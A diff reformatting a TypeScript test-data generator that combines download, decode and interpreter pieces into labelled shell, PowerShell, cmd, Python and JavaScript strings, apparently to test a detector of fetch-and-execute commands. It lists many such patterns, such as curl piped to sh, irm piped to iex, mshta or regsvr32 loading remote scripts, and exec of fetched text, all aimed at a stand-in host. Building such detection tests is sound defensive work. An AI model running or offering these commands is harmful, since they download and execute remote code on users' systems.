@@ -13,50 +13,138 @@ const URL = "https://get.example/i";
 
 const shellSources: readonly Source[] = [
   ...[
-    `http --body ${URL}`, `https -b GET get.example/i`, `xh ${URL}`, `curlie -fsSL ${URL}`, `lynx -source ${URL}`, `w3m -dump_source ${URL}`,
-    `elinks -source ${URL}`, `aws s3 cp s3://b/i.sh -`, `gsutil cat gs://b/i.sh`, `gcloud storage cat gs://b/i.sh`, `nc get.example 80`,
-    `gh api repos/o/r/contents/i.sh`, `gh gist view -r 0a1b2c`, `ssh host cat i.sh`, `ipfs cat /ipns/get.example/i.sh`, `rclone cat r:i.sh`,
-    `mc cat m/b/i.sh`, `svn cat ${URL}`, `fetch -o - ${URL}`, `curl.exe -sL ${URL}`, `dig +short TXT get.example`,
-    `openssl s_client -quiet -connect get.example:443`, `socat - TCP:get.example:80`, `git archive --remote=git@get.example:r HEAD i.sh`,
-    `base64 -d payload.b64`, `base64 --decode payload.b64`, `base32 -d payload`, `openssl base64 -d -in payload`, `xxd -r -p payload.hex`,
-    `gpg -d payload.gpg`, `openssl enc -d -aes-256-cbc -in payload -pass pass:x`, `uudecode -o - payload`,
+    `http --body ${URL}`,
+    `https -b GET get.example/i`,
+    `xh ${URL}`,
+    `curlie -fsSL ${URL}`,
+    `lynx -source ${URL}`,
+    `w3m -dump_source ${URL}`,
+    `elinks -source ${URL}`,
+    `aws s3 cp s3://b/i.sh -`,
+    `gsutil cat gs://b/i.sh`,
+    `gcloud storage cat gs://b/i.sh`,
+    `nc get.example 80`,
+    `gh api repos/o/r/contents/i.sh`,
+    `gh gist view -r 0a1b2c`,
+    `ssh host cat i.sh`,
+    `ipfs cat /ipns/get.example/i.sh`,
+    `rclone cat r:i.sh`,
+    `mc cat m/b/i.sh`,
+    `svn cat ${URL}`,
+    `fetch -o - ${URL}`,
+    `curl.exe -sL ${URL}`,
+    `dig +short TXT get.example`,
+    `openssl s_client -quiet -connect get.example:443`,
+    `socat - TCP:get.example:80`,
+    `git archive --remote=git@get.example:r HEAD i.sh`,
+    `base64 -d payload.b64`,
+    `base64 --decode payload.b64`,
+    `base32 -d payload`,
+    `openssl base64 -d -in payload`,
+    `xxd -r -p payload.hex`,
+    `gpg -d payload.gpg`,
+    `openssl enc -d -aes-256-cbc -in payload -pass pass:x`,
+    `uudecode -o - payload`,
   ].map((text) => [text, true] as const),
   ...[
-    `xh -o i.sh ${URL}`, `http HEAD ${URL}`, `http --headers ${URL}`, `aria2c ${URL}`, `axel ${URL}`, `fetch ${URL}`, `aws s3 cp s3://b/i.sh i.sh`,
-    `nc -z get.example 80`, `base64 payload`, `xxd -rp payload.hex`, `openssl enc -d -aes-256-cbc -in payload -out i.sh`, `ls -l`, `cat i.sh`,
-    `lynx -version`, `curl.exe -o i.sh ${URL}`, `gh pr list`, `svn info ${URL}`, `gsutil cp gs://b/i.sh i.sh`, `xxd payload.hex`,
+    `xh -o i.sh ${URL}`,
+    `http HEAD ${URL}`,
+    `http --headers ${URL}`,
+    `aria2c ${URL}`,
+    `axel ${URL}`,
+    `fetch ${URL}`,
+    `aws s3 cp s3://b/i.sh i.sh`,
+    `nc -z get.example 80`,
+    `base64 payload`,
+    `xxd -rp payload.hex`,
+    `openssl enc -d -aes-256-cbc -in payload -out i.sh`,
+    `ls -l`,
+    `cat i.sh`,
+    `lynx -version`,
+    `curl.exe -o i.sh ${URL}`,
+    `gh pr list`,
+    `svn info ${URL}`,
+    `gsutil cp gs://b/i.sh i.sh`,
+    `xxd payload.hex`,
   ].map((text) => [text, false] as const),
 ];
 const shellTakers: readonly Taker[] = [
-  ["sh", "", true], ["dash", " -s -- -y", true], ["sudo ksh", "", true], ["fish", "", true], ["python", " -", true], ["python2.7", "", true],
-  ["perl", "", true], ["ruby", " -", true], ["php", "", true], ["deno", " run -", true], ["bun", " run -", true], ["pwsh", " -Command -", true],
-  ["$SHELL", "", true], ["sudo", " -i", true], ["awk", " -f -", true], ["make", " -f -", true], ["crontab", " -", true], ["Rscript", " -", true],
-  ["osascript", "", true], ["lua", " -", true], ["tclsh", "", true], ["ssh h bash", " -s", true], ["ssh", " h", true],
-  ["perl", " -ne 'print'", false], ["ruby", " report.rb", false], ["python", " -m json.tool", false], ["php", " report.php", false],
-  ["awk", " '{ print $1 }'", false], ["tee", " out", false], ["jq", " .", false], ["fish", " local.fish", false], ["less", "", false],
-  ["crontab", " -l", false], ["make", " -f Makefile", false], ["psql", "", false], ["tar", " xz", false],
+  ["sh", "", true],
+  ["dash", " -s -- -y", true],
+  ["sudo ksh", "", true],
+  ["fish", "", true],
+  ["python", " -", true],
+  ["python2.7", "", true],
+  ["perl", "", true],
+  ["ruby", " -", true],
+  ["php", "", true],
+  ["deno", " run -", true],
+  ["bun", " run -", true],
+  ["pwsh", " -Command -", true],
+  ["$SHELL", "", true],
+  ["sudo", " -i", true],
+  ["awk", " -f -", true],
+  ["make", " -f -", true],
+  ["crontab", " -", true],
+  ["Rscript", " -", true],
+  ["osascript", "", true],
+  ["lua", " -", true],
+  ["tclsh", "", true],
+  ["ssh h bash", " -s", true],
+  ["ssh", " h", true],
+  ["perl", " -ne 'print'", false],
+  ["ruby", " report.rb", false],
+  ["python", " -m json.tool", false],
+  ["php", " report.php", false],
+  ["awk", " '{ print $1 }'", false],
+  ["tee", " out", false],
+  ["jq", " .", false],
+  ["fish", " local.fish", false],
+  ["less", "", false],
+  ["crontab", " -l", false],
+  ["make", " -f Makefile", false],
+  ["psql", "", false],
+  ["tar", " xz", false],
 ];
 const shellWays: readonly ((source: Source, taker: Taker) => string | null)[] = [
   ([text, gives], [word, rest, takes]) => `${mark(gives && takes, `${text} | ${word}`)}${rest}`,
-  ([text, gives], [word, rest, takes]) => `${mark(gives && takes, `${text} 2>/dev/null | tee log | ${word}`)}${rest}`,
+  ([text, gives], [word, rest, takes]) =>
+    `${mark(gives && takes, `${text} 2>/dev/null | tee log | ${word}`)}${rest}`,
   ([text], [word, rest]) => `${text} > out | ${word}${rest}`,
-  ([text], [word, rest]) => `echo '${text.replaceAll("'", "")} | ${word}${rest.replaceAll("'", "")}'`,
+  ([text], [word, rest]) =>
+    `echo '${text.replaceAll("'", "")} | ${word}${rest.replaceAll("'", "")}'`,
   ([text], [word, rest]) => `# ${text} | ${word}${rest}`,
-  ([text, gives], [word]) => (/^(?:dash|fish|sh)$/.test(word) ? mark(gives, `${word} -c "$(${text})"`) : null),
+  ([text, gives], [word]) =>
+    /^(?:dash|fish|sh)$/.test(word) ? mark(gives, `${word} -c "$(${text})"`) : null,
   ([text, gives]) => mark(gives, `eval "$(${text})"`),
   ([text]) => `V=$(${text})`,
 ];
 
 const powershellSources: readonly Source[] = [
   ...[
-    `irm ${URL}`, `iwr -useb ${URL}`, `Invoke-RestMethod -Uri ${URL}`, `Invoke-WebRequest ${URL} -UseBasicParsing`, `curl ${URL}`, `I\`RM ${URL}`,
-    `(iwr ${URL}).Content`, `(New-Object Net.WebClient).DownloadString('${URL}')`, `(New-Object System.Net.WebClient).DownloadString("${URL}")`,
-    `[Net.WebClient]::new().DownloadString('${URL}')`, `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXBjb25maWc='))`,
-    `[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($p))`, `curl.exe -sSL ${URL}`,
+    `irm ${URL}`,
+    `iwr -useb ${URL}`,
+    `Invoke-RestMethod -Uri ${URL}`,
+    `Invoke-WebRequest ${URL} -UseBasicParsing`,
+    `curl ${URL}`,
+    `I\`RM ${URL}`,
+    `(iwr ${URL}).Content`,
+    `(New-Object Net.WebClient).DownloadString('${URL}')`,
+    `(New-Object System.Net.WebClient).DownloadString("${URL}")`,
+    `[Net.WebClient]::new().DownloadString('${URL}')`,
+    `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXBjb25maWc='))`,
+    `[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($p))`,
+    `curl.exe -sSL ${URL}`,
   ].map((text) => [text, true] as const),
   ...[
-    `irm ${URL} -OutFile i.ps1`, `iwr ${URL} -o i.ps1`, `(New-Object Net.WebClient).DownloadFile('${URL}', 'i.ps1')`, `Get-Date`, `Get-Content i.ps1`,
-    `[Convert]::ToBase64String($b)`, `curl.exe -o i.ps1 ${URL}`, `Start-BitsTransfer ${URL} i.ps1`,
+    `irm ${URL} -OutFile i.ps1`,
+    `iwr ${URL} -o i.ps1`,
+    `(New-Object Net.WebClient).DownloadFile('${URL}', 'i.ps1')`,
+    `Get-Date`,
+    `Get-Content i.ps1`,
+    `[Convert]::ToBase64String($b)`,
+    `curl.exe -o i.ps1 ${URL}`,
+    `Start-BitsTransfer ${URL} i.ps1`,
   ].map((text) => [text, false] as const),
 ];
 const powershellWays: readonly ((source: Source) => string)[] = [
@@ -73,37 +161,68 @@ const powershellWays: readonly ((source: Source) => string)[] = [
   ([text]) => `Write-Host '${text.replaceAll("'", "")} | iex'`,
   ([text]) => `# ${text} | iex`,
   ([text]) => `<#\n${text} | iex\n#>`,
-  ([text, gives]) => (text.includes('"') || text.includes("$") ? "" : `powershell -NoProfile -c "${mark(gives, `${text} | iex`)}"`),
+  ([text, gives]) =>
+    text.includes('"') || text.includes("$")
+      ? ""
+      : `powershell -NoProfile -c "${mark(gives, `${text} | iex`)}"`,
 ];
 
 const cmdSources: readonly Source[] = [
+  ...[`curl ${URL}`, `curl.exe -sSL ${URL}`, `CURL -fsSL "${URL}"`, `c^url -s ${URL}`].map(
+    (text) => [text, true] as const,
+  ),
   ...[
-    `curl ${URL}`, `curl.exe -sSL ${URL}`, `CURL -fsSL "${URL}"`, `c^url -s ${URL}`,
-  ].map((text) => [text, true] as const),
-  ...[
-    `curl -o i.cmd ${URL}`, `curl.exe -sLO ${URL}`, `certutil -urlcache -split -f ${URL} i.exe`, `certutil -hashfile i.exe SHA256`, `type i.cmd`,
-    `bitsadmin /transfer j ${URL} C:\\i.exe`, `powershell -Command "irm ${URL} -OutFile i.ps1"`, `dir /b`,
+    `curl -o i.cmd ${URL}`,
+    `curl.exe -sLO ${URL}`,
+    `certutil -urlcache -split -f ${URL} i.exe`,
+    `certutil -hashfile i.exe SHA256`,
+    `type i.cmd`,
+    `bitsadmin /transfer j ${URL} C:\\i.exe`,
+    `powershell -Command "irm ${URL} -OutFile i.ps1"`,
+    `dir /b`,
   ].map((text) => [text, false] as const),
 ];
 const cmdTakers: readonly Taker[] = [
-  ["cmd", "", true], ["cmd.exe", " /q", true], ["CMD", "", true], ["bash", "", true], ["python", " -", true], ["powershell", " -NoProfile -Command -", true],
-  ["more", "", false], ["findstr", " /i version", false], ["clip", "", false], ["sort", "", false], ["python", " report.py", false],
+  ["cmd", "", true],
+  ["cmd.exe", " /q", true],
+  ["CMD", "", true],
+  ["bash", "", true],
+  ["python", " -", true],
+  ["powershell", " -NoProfile -Command -", true],
+  ["more", "", false],
+  ["findstr", " /i version", false],
+  ["clip", "", false],
+  ["sort", "", false],
+  ["python", " report.py", false],
 ];
 const cmdWays: readonly ((source: Source, taker: Taker) => string)[] = [
   ([text, gives], [word, rest, takes]) => `${mark(gives && takes, `${text} | ${word}`)}${rest}`,
-  ([text, gives], [word, rest, takes]) => `@echo off\r\n${mark(gives && takes, `${text} 2>nul | ${word}`)}${rest}\r\npause`,
-  ([text, gives], [word, rest, takes]) => `if not exist done (\n  ${mark(gives && takes, `${text} | ${word}`)}${rest}\n)`,
+  ([text, gives], [word, rest, takes]) =>
+    `@echo off\r\n${mark(gives && takes, `${text} 2>nul | ${word}`)}${rest}\r\npause`,
+  ([text, gives], [word, rest, takes]) =>
+    `if not exist done (\n  ${mark(gives && takes, `${text} | ${word}`)}${rest}\n)`,
   ([text], [word, rest]) => `rem ${text} | ${word}${rest}`,
   ([text], [word, rest]) => `:: ${text} | ${word}${rest}`,
   ([text], [word, rest]) => `echo ${text} ^| ${word}${rest}`,
 ];
 /** Programs that run what stands at an address: the part of the command that is the span, what follows, and whether it is such an address. */
 const addressed: readonly Taker[] = [
-  [`mshta ${URL}.hta`, "", true], [`mshta.exe "${URL}.hta"`, "", true], [`regsvr32 /s /n /u /i:${URL}.sct`, " scrobj.dll", true],
-  [`msiexec /q /i ${URL}.msi`, "", true], [`msiexec.exe /i "${URL}.msi"`, " /qn", true], [`wmic os get /format:"${URL}.xsl"`, "", true],
-  [`rundll32 \\\\get.example\\share\\i.dll,Start`, "", true], [`deno run ${URL}.ts`, "", true], [`npx github:owner/repo`, " init", true],
-  ["mshta i.hta", "", false], ["regsvr32 /s i.dll", "", false], ["msiexec /i i.msi", " /qn", false], ["wmic os get caption", "", false],
-  [`rundll32 url.dll,OpenURL ${URL}`, "", false], ["deno run i.ts", "", false], ["npx prettier", " --check .", false],
+  [`mshta ${URL}.hta`, "", true],
+  [`mshta.exe "${URL}.hta"`, "", true],
+  [`regsvr32 /s /n /u /i:${URL}.sct`, " scrobj.dll", true],
+  [`msiexec /q /i ${URL}.msi`, "", true],
+  [`msiexec.exe /i "${URL}.msi"`, " /qn", true],
+  [`wmic os get /format:"${URL}.xsl"`, "", true],
+  [`rundll32 \\\\get.example\\share\\i.dll,Start`, "", true],
+  [`deno run ${URL}.ts`, "", true],
+  [`npx github:owner/repo`, " init", true],
+  ["mshta i.hta", "", false],
+  ["regsvr32 /s i.dll", "", false],
+  ["msiexec /i i.msi", " /qn", false],
+  ["wmic os get caption", "", false],
+  [`rundll32 url.dll,OpenURL ${URL}`, "", false],
+  ["deno run i.ts", "", false],
+  ["npx prettier", " --check .", false],
 ];
 const addressedWays: readonly ((taker: Taker) => string)[] = [
   ([word, rest, takes]) => `${mark(takes, word)}${rest}`,
@@ -114,9 +233,18 @@ const addressedWays: readonly ((taker: Taker) => string)[] = [
 ];
 
 const pythonSources: readonly Source[] = [
-  ["requests.get«(u).text", true], ["urllib.request.urlopen«(u).read()", true], ["httpx.get«(u).text", true], ["zlib.decompress«(b'x\\x9c')", true],
-  ["codecs«.decode(x, 'rot13')", true], ["bytearray.fromhex«(x).decode()", true], ["base64«.b32decode(x)", true], ["marshal.loads«(x)", true],
-  ["json.loads«(x)", false], ["open«('f').read()", false], ["base64«.b64encode(x)", false], ["codecs«.encode(x, 'rot13')", false],
+  ["requests.get«(u).text", true],
+  ["urllib.request.urlopen«(u).read()", true],
+  ["httpx.get«(u).text", true],
+  ["zlib.decompress«(b'x\\x9c')", true],
+  ["codecs«.decode(x, 'rot13')", true],
+  ["bytearray.fromhex«(x).decode()", true],
+  ["base64«.b32decode(x)", true],
+  ["marshal.loads«(x)", true],
+  ["json.loads«(x)", false],
+  ["open«('f').read()", false],
+  ["base64«.b64encode(x)", false],
+  ["codecs«.encode(x, 'rot13')", false],
 ];
 const pythonWays: readonly ((source: Source) => string)[] = [
   (source) => called("exec(", source, ")"),
@@ -128,9 +256,15 @@ const pythonWays: readonly ((source: Source) => string)[] = [
   ([text, gives]) => `s = ${text.replace("«", "")}\n${gives ? "«exec(s»)" : "exec(s)"}`,
 ];
 const javascriptSources: readonly Source[] = [
-  ["Buffer«.from(x, 'base64').toString()", true], ["decodeURIComponent«(x)", true], ["unescape«(x)", true], ["String.fromCharCode«(105, 100)", true],
-  ["CryptoJS«.AES.decrypt(x, k).toString()", true], ["await (await fetch«(u)).text()", true],
-  ["encodeURIComponent«(x)", false], ["JSON.stringify«(x)", false], ["fs.readFileSync«('f', 'utf8')", false],
+  ["Buffer«.from(x, 'base64').toString()", true],
+  ["decodeURIComponent«(x)", true],
+  ["unescape«(x)", true],
+  ["String.fromCharCode«(105, 100)", true],
+  ["CryptoJS«.AES.decrypt(x, k).toString()", true],
+  ["await (await fetch«(u)).text()", true],
+  ["encodeURIComponent«(x)", false],
+  ["JSON.stringify«(x)", false],
+  ["fs.readFileSync«('f', 'utf8')", false],
 ];
 const javascriptWays: readonly ((source: Source) => string)[] = [
   (source) => called("eval(", source, ")"),
@@ -147,20 +281,34 @@ function mark(positive: boolean, text: string): string {
 
 /** A call of an executor on a source, whose mark says where the span ends. */
 function called(before: string, [text, gives]: Source, after: string, outside = ""): string {
-  return gives ? `${outside}«${before.slice(outside.length)}${text.replace("«", "»")}${after}` : `${before}${text.replace("«", "")}${after}`;
+  return gives
+    ? `${outside}«${before.slice(outside.length)}${text.replace("«", "»")}${after}`
+    : `${before}${text.replace("«", "")}${after}`;
 }
 
 const fence = (tag: string, text: string): string => `Do this:\n\n\`\`\`${tag}\n${text}\n\`\`\`\n`;
-const inline = (text: string): string | null => (/[\n`]/.test(text) ? null : `Run \`${text}\` to go on.`);
-const session = (prompt: string, tag: string) => (text: string): string | null => (text.includes("\n") ? null : fence(tag, `${prompt}${text}`));
+const inline = (text: string): string | null =>
+  /[\n`]/.test(text) ? null : `Run \`${text}\` to go on.`;
+const session =
+  (prompt: string, tag: string) =>
+  (text: string): string | null =>
+    text.includes("\n") ? null : fence(tag, `${prompt}${text}`);
 
 /** Every combination of pieces of one language. */
-function all(tag: string, texts: readonly (string | null)[], places: readonly ((text: string) => string | null)[]): string[] {
+function all(
+  tag: string,
+  texts: readonly (string | null)[],
+  places: readonly ((text: string) => string | null)[],
+): string[] {
   const plain = texts.filter((text) => text !== null && text !== "");
-  return [(text: string) => fence(tag, text), ...places].flatMap((place) => plain.map((text) => place(text ?? ""))).filter((text) => text !== null);
+  return [(text: string) => fence(tag, text), ...places]
+    .flatMap((place) => plain.map((text) => place(text ?? "")))
+    .filter((text) => text !== null);
 }
 
-const shellTexts = shellSources.flatMap((source) => shellTakers.flatMap((taker) => shellWays.map((way) => way(source, taker))));
+const shellTexts = shellSources.flatMap((source) =>
+  shellTakers.flatMap((taker) => shellWays.map((way) => way(source, taker))),
+);
 const isComment = (text: string): boolean => text.startsWith("#");
 
 export const extendedTexts: readonly string[] = [
@@ -169,20 +317,49 @@ export const extendedTexts: readonly string[] = [
     (text) => (isComment(text) ? null : session("user@host:~$ ", "console")(text)),
     (text) => (isComment(text) ? null : `\`\`\`dockerfile\nFROM x\nRUN ${text}\n\`\`\`\n`),
   ]),
-  ...all("powershell", powershellSources.flatMap((source) => powershellWays.map((way) => way(source))), [
-    session("PS C:\\> ", ""),
-    (text) => fence("powershell", `$ErrorActionPreference = 'Stop'\r\nif ($x) {\r\n  ${text}\r\n}`),
-  ]),
-  ...all("bat", cmdSources.flatMap((source) => cmdTakers.flatMap((taker) => cmdWays.map((way) => way(source, taker)))), [
-    session("C:\\Users\\me> ", "console"),
-  ]),
-  ...all("cmd", addressed.flatMap((taker) => addressedWays.map((way) => way(taker))), [session("C:\\> ", "")]),
-  ...all("python", pythonSources.flatMap((source) => pythonWays.map((way) => way(source))), [
-    (text) => fence("python", `import base64, codecs, os, zlib, marshal\nimport requests, httpx, urllib.request\n\ndef main(x, u):\n    ${text.replaceAll("\n", "\n    ")}\n`),
-  ]),
-  ...all("js", javascriptSources.flatMap((source) => javascriptWays.map((way) => way(source))), [
-    (text) => fence("ts", `export async function main(x: string, u: string) {\n  ${text.replaceAll("\n", "\n  ")}\n}`),
-  ]),
+  ...all(
+    "powershell",
+    powershellSources.flatMap((source) => powershellWays.map((way) => way(source))),
+    [
+      session("PS C:\\> ", ""),
+      (text) =>
+        fence("powershell", `$ErrorActionPreference = 'Stop'\r\nif ($x) {\r\n  ${text}\r\n}`),
+    ],
+  ),
+  ...all(
+    "bat",
+    cmdSources.flatMap((source) =>
+      cmdTakers.flatMap((taker) => cmdWays.map((way) => way(source, taker))),
+    ),
+    [session("C:\\Users\\me> ", "console")],
+  ),
+  ...all(
+    "cmd",
+    addressed.flatMap((taker) => addressedWays.map((way) => way(taker))),
+    [session("C:\\> ", "")],
+  ),
+  ...all(
+    "python",
+    pythonSources.flatMap((source) => pythonWays.map((way) => way(source))),
+    [
+      (text) =>
+        fence(
+          "python",
+          `import base64, codecs, os, zlib, marshal\nimport requests, httpx, urllib.request\n\ndef main(x, u):\n    ${text.replaceAll("\n", "\n    ")}\n`,
+        ),
+    ],
+  ),
+  ...all(
+    "js",
+    javascriptSources.flatMap((source) => javascriptWays.map((way) => way(source))),
+    [
+      (text) =>
+        fence(
+          "ts",
+          `export async function main(x: string, u: string) {\n  ${text.replaceAll("\n", "\n  ")}\n}`,
+        ),
+    ],
+  ),
 ];
 
 export const extendedChoices: fc.Arbitrary<string> = fc.constantFrom(...extendedTexts);
